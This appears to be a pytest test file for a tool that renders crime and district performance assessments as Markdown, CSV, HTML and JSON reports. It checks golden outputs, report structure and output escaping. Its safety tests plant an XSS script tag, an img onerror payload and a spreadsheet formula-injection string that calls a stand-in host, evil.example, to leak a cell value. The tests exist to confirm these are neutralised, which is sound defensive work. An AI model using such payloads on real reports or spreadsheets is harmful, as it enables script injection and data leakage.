"""Reports people read: Markdown, CSV and HTML goldens for both bundled examples, their structure, and
safety: a `<script>` in a title and a formula in an area name survive in no output unescaped."""

import csv
import html
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from lsprules.render.csv_out import COLUMNS

ROOT = Path(__file__).resolve().parents[1]
GOLDEN = ROOT / "tests" / "golden" / "reports"
UPDATE = os.environ.get("LSPRULES_UPDATE_GOLDENS") == "1"
EXAMPLES = {
    "crime": ("rules/crime.rules", "datasets/redcar-cleveland-2007.yaml"),
    "districts": ("rules/districts.rules", "datasets/districts-2006-07.csv"),
}
SUFFIX = {"markdown": "md", "csv": "csv", "html": "html"}


def run(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "lsprules", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=120)


def report(example: str, fmt: str, *extra: str) -> str:
    result = run("evaluate", *EXAMPLES[example], "-f", fmt, *extra)
    assert result.returncode == 0, result.stderr
    return result.stdout


def check_golden(name: str, text: str) -> None:
    # A file's git state (commit, clean) changes with every commit: goldens keep everything but that.
    text = re.sub(r" · git \S+ \w+", "", text)
    path = GOLDEN / name
    if UPDATE:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8"), f"{name} differs; LSPRULES_UPDATE_GOLDENS=1 regenerates it"


@pytest.mark.parametrize("example", sorted(EXAMPLES))
@pytest.mark.parametrize("fmt", sorted(SUFFIX))
def test_report_matches_golden(example, fmt):
    check_golden(f"{example}.{SUFFIX[fmt]}", report(example, fmt))


def test_output_file_equals_standard_output(tmp_path):
    out = tmp_path / "crime.html"
    assert run("evaluate", *EXAMPLES["crime"], "-f", "html", "-o", str(out)).returncode == 0
    assert out.read_text(encoding="utf-8") == report("crime", "html")
    assert [p.name for p in tmp_path.iterdir()] == ["crime.html"]


# --- structure -----------------------------------------------------------------------------------------


def test_markdown_reads_like_the_source_tables():
    text = report("crime", "markdown")
    assert "### Crime theme assessment: 2005/06 AMBER RED → 2006/07 **AMBER GREEN**" in text
    assert "#### Progress against PSA1 targets" in text
    row = next(line for line in text.splitlines() if line.startswith("| Theft of Vehicle |"))
    assert row == ("| Theft of Vehicle | 1029 | 721 | 640 | **547** | ▲ | ● GREEN | 848.9 | 893.9 | "
                   "35.6% better than target |")
    widths = {len(re.split(r"(?<!\\)\|", line)) for line in text.splitlines() if line.startswith("| ")}
    assert len(widths) == 1  # every row of every table has as many cells as its header
    assert ("- Narrowing the gap – deprived neighbourhoods and Borough — Vehicle Interference: 2006/07: the report "
            "printed ▲, the rules give ▼") in text  # three sections have a Vehicle Interference row


def test_html_is_self_contained_and_prints_on_a4():
    text = report("crime", "html")
    assert text.startswith("<!DOCTYPE html>") and "Content-Security-Policy" in text
    assert not re.search(r"<script|<link|<iframe|<img|src=|href=|url\(", text, re.I)  # nothing fetched or run
    assert "@page { size: A4 portrait" in text and "@media print" in text
    assert text.count('<table>') == 4 and text.count('<svg class="spark"') == 33
    assert text.count('class="target"') == 14  # 11 crime trajectories and 3 fixed DIP KPI targets
    assert '<span class="rag rag-green">● GREEN</span>' in text  # colour, word and shape
    assert '<strong class="pill rating-amber-green">AMBER GREEN</strong>' in text
    assert '<td class="arrow arrow-down" title="worse">▼<span class="sr"> worse</span></td>' in text
    assert "Where the printed report and its data disagree" in text and "sha256 <code>" in text


def test_csv_has_a_row_per_assessment_and_numbers_stay_numbers():
    rows = list(csv.reader(io.StringIO(report("districts", "csv"))))
    assert tuple(rows[0]) == COLUMNS and len(rows) == 1 + 4 * 9  # four districts; National is the comparator
    gaps = [r for r in rows[1:] if r[1] == "burglary_gap"]
    assert [(r[0], r[5], r[13]) for r in gaps] == [("Northby", "-0.09", "green"), ("Southby", "-0.44", "green"),
                                                   ("Eastmoor", "-0.25", "green"), ("Westvale", "0.47", "red")]


def test_area_filter_limits_every_format():
    for fmt in ("markdown", "html", "csv", "json"):
        text = report("districts", fmt, "--area", "Westvale")
        assert "Westvale" in text and "Northby" not in text, fmt


# --- safety ----------------------------------------------------------------------------------------------

SCRIPT = "<script>document.title='owned';document.body.setAttribute('data-owned','yes')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
IMG = '<img src=x onerror="document.body.setAttribute(\'data-owned\',\'img\')">'


def planted_files(folder: Path) -> tuple[Path, Path]:
    """Rules and a dataset with hostile text in every title and an area name that is a formula."""
    rules = folder / "planted.rules"
    img = IMG.replace('"', '\\"')  # a rule-file string escapes its double quotes
    rules.write_text(f'''comparator national "{SCRIPT}" area "National"
group g "{img} group" {{
  indicator robbery "{SCRIPT} Robbery" {{
    polarity lower_is_better
    target 70
    rag {{
      green when target met
      red otherwise
    }}
  }}
  indicator robbery_gap "Gap {img}" {{
    polarity lower_is_better
    value = gap(robbery, national)
  }}
}}
theme t "{SCRIPT}" {{
  scale RED < GREEN
  indicators g
  rating {{
    GREEN when share(rag is green) >= 50 %
    RED otherwise
  }}
}}
''', encoding="utf-8")
    data = folder / "planted.json"
    data.write_text(json.dumps({
        "title": SCRIPT, "source": IMG, "period_kind": "financial_year",
        "areas": {FORMULA: {"indicators": {"robbery": {"values": {"2005/06": 75, "2006/07": 76},
                                                       "reported": {"arrow": {"2006/07": "up"}}}}},
                  "-2+3": {"indicators": {"robbery": {"values": {"2005/06": 2, "2006/07": 1}}}},
                  "National": {"indicators": {"robbery": {"values": {"2005/06": 70, "2006/07": 71}}}}},
    }), encoding="utf-8")
    return rules, data


def planted_report(tmp_path: Path, fmt: str) -> str:
    rules, data = planted_files(tmp_path)
    result = run("evaluate", str(rules), str(data), "-f", fmt)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_html_escapes_every_planted_text(tmp_path):
    text = planted_report(tmp_path, "html")
    assert not re.search(r"<script|<img|onerror=\"|<svg[^>]*onload", text, re.I)
    assert "&lt;script&gt;document.title=&#x27;owned&#x27;" in text  # shown as text
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click me&quot;)" in text
    assert "&lt;img src=x onerror=&quot;" in text


def test_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    rows = list(csv.reader(io.StringIO(planted_report(tmp_path, "csv"))))
    areas = {r[0] for r in rows[1:]}
    assert areas == {"'" + FORMULA, "'-2+3"}
    number = re.compile(r"^-?\d+(\.\d+)?$")
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or number.match(cell), cell
    assert any(cell == "-1" for row in rows[1:] for cell in row)  # a negative change is still a number


def test_markdown_escapes_every_planted_text(tmp_path):
    text = planted_report(tmp_path, "markdown")
    assert "<script" not in text and "<img" not in text
    assert "&lt;script&gt;document.title='owned'" in text and "HYPERLINK" in text


def test_json_keeps_text_exact(tmp_path):
    document = json.loads(planted_report(tmp_path, "json"))
    assert {a["area"] for a in document["assessments"]} == {FORMULA, "-2+3"}
    assert document["assessments"][0]["title"] == f"{SCRIPT} Robbery"


@pytest.mark.parametrize("fmt", ["markdown", "html"])
def test_the_committee_report_is_in_markdown_and_html(fmt):
    text = report("crime", fmt)
    plain = html.unescape(re.sub(r"<[^>]+>|\*\*", "", text))  # the words as a reader sees them
    assert "2005/06 AMBER RED → 2006/07 AMBER GREEN" in " ".join(plain.split())
    assert "88 of 160 (assessed of contacts)" in plain and "5 pp short of target" in plain
    assert "National data for 2006/07 was not yet available" in plain  # the dataset's comments
    assert "Sources: Cleveland Police;" in plain and "Source: Redcar & Cleveland Partnership" in plain
    assert "improving at a rate sufficient to meet or exceed target" in plain  # the key, from the rules
    assert "Trajectory" in plain and "where the straight line from the baseline to the target" in plain
    assert "55%" in plain and "60%" in plain
